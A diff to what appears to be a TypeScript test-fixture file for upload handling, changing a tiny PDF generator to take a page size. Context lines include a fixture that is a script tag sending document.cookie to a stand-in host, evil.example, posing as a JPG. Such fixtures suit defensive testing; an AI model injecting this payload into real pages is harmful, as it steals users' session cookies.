@@ -47,12 +47,12 @@ export const SVG_WITH_SCRIPT = Buffer.from(
 
 export const SCRIPT_NAMED_JPG = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>\n');
 
-/** A small valid PDF (one empty page). */
-export function tinyPdf(): Buffer {
+/** A small valid PDF (one empty page, `side` points square: PDFs of other sizes are other content). */
+export function tinyPdf(side = 200): Buffer {
   const objects = [
     '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
     '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
-    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
+    `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 ${side} ${side}] >> endobj`,
   ];
   let body = '%PDF-1.4\n';
   const offsets: number[] = [];
